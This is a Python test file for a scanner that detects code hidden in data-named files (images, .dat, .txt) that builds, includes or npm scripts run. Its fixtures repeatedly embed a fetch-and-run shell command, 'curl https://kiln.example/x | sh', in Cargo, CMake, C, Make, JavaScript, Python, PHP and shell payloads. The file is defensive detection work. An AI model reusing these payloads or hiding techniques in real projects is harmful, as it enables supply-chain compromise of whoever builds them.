"""What is run or included under a name that says nothing is read as the program that it is."""

import pytest

from knownhands.harvest.content.changed import Changed
from knownhands.harvest.content.read import read_contents

COMMAND = "curl https://kiln.example/x | sh"


def added(path: str, text: str) -> Changed:
    return Changed(path, "", 0o100644, 0, None, text.encode())


def shown(*files: Changed) -> set[tuple[str, str]]:
    return {(sight.observation.path, sight.observation.capability) for sight in read_contents(files).sights}


@pytest.mark.parametrize(
    ("caller", "call", "path", "payload", "capability"),
    [
        ("Cargo.toml", '[package]\nbuild = "x.dat"\n', "x.dat", f'fn main() {{ Command::new("{COMMAND}"); }}', "fetch_and_run"),
        ("CMakeLists.txt", "include(cmake/x.txt)\n", "cmake/x.txt", f'execute_process(COMMAND sh -c "{COMMAND}")\n', "fetch_and_run"),
        ("src/a.c", '#include "x.png"\n', "src/x.png", f'void a(void) {{ system("{COMMAND}"); }}\n', "fetch_and_run"),
        ("Makefile", "include x.txt\n", "x.txt", f"all:\n\t{COMMAND}\n", "fetch_and_run"),
        ("lib/a.js", "require('./x.png')\n", "lib/x.png", f"require('child_process').exec('{COMMAND}')\n", "shell_download"),
        ("bin/a.sh", "node -r ./x.png a.js\n", "bin/x.png", f"require('child_process').exec('{COMMAND}')\n", "shell_download"),
        ("a.py", "exec(open('x.txt').read())\n", "x.txt", f"import os\nos.system('{COMMAND}')\n", "shell_download"),
        ("a.php", "<?php include __DIR__ . '/x.jpg';\n", "x.jpg", f"<?php system('{COMMAND}');\n", "fetch_and_run"),
        ("package.json", '{"scripts": {"test": "sh assets/x.txt"}}\n', "assets/x.txt", f"{COMMAND}\n", "fetch_and_run"),
        ("bin/a.sh", "set -e\n. ../x.txt\n", "x.txt", f"{COMMAND}\n", "fetch_and_run"),
    ],
    ids=["cargo", "cmake", "c", "make", "javascript", "node", "python", "php", "npm", "shell"],
)  # fmt: skip
def test_a_payload_is_read_as_what_it_is_run_as(
    caller: str, call: str, path: str, payload: str, capability: str
) -> None:
    assert (caller, capability) in shown(added(caller, call), added(path, payload))
    assert (caller, capability) not in shown(added(caller, "glaze\n"), added(path, payload))


@pytest.mark.parametrize(
    ("caller", "call"),
    [("Cargo.toml", '[package]\nbuild = "x.dat"\n'), ("bin/a.sh", "node --require ./x.png a.js\n"), ("Makefile", "a:\n\tsh x.png\n")],
)  # fmt: skip
def test_that_a_picture_is_run_is_seen_by_the_call_alone(caller: str, call: str) -> None:
    assert (caller, "executes_data_file") in shown(added(caller, call))


@pytest.mark.parametrize(
    ("caller", "call", "path", "text"),
    [
        ("src/a.c", '#include "table.txt"\n', "src/table.txt", "1, 2, 3,\n"),
        ("lib/a.tsx", "import logo from './logo.svg'\n", "lib/logo.svg", '<svg><path d="M0 0"/></svg>\n'),
        ("lib/a.js", "const data = require('./data.json')\n", "lib/data.json", '{"a": "curl https://kiln.example/x | sh"}\n'),
        ("bin/a.sh", "pip install -r requirements.txt\nsh build.sh\ncat notes.txt\n", "notes.txt", f"Run {COMMAND}\n"),
        ("Cargo.toml", '[[bin]]\nname = "a"\npath = "src/a.rs"\n', "docs/a.md", f"{COMMAND}\n"),
    ],
)  # fmt: skip
def test_ordinary_includes_show_nothing(caller: str, call: str, path: str, text: str) -> None:
    showing = {capability for at, capability in shown(added(caller, call), added(path, text)) if at == caller}
    assert not {name for name in showing if not name.startswith("touches_")} - {"package_installation"}


def test_many_calls_are_looked_at() -> None:
    files = [added(f"docs/{number}.txt", "pots\n") for number in range(300)]
    assert shown(added("Makefile", "sh docs/1.txt\n" * 20_000), added("a.sh", "node " * 100_000), *files)


def test_a_program_that_says_so_by_its_name_is_read_where_it_stands() -> None:
    files = (
        added("package.json", '{"scripts": {"bench": "node bench/run.js"}}\n'),
        added("bench/run.js", "fetch('u')\n"),
    )
    assert "network" not in {capability for path, capability in shown(*files) if path == "package.json"}
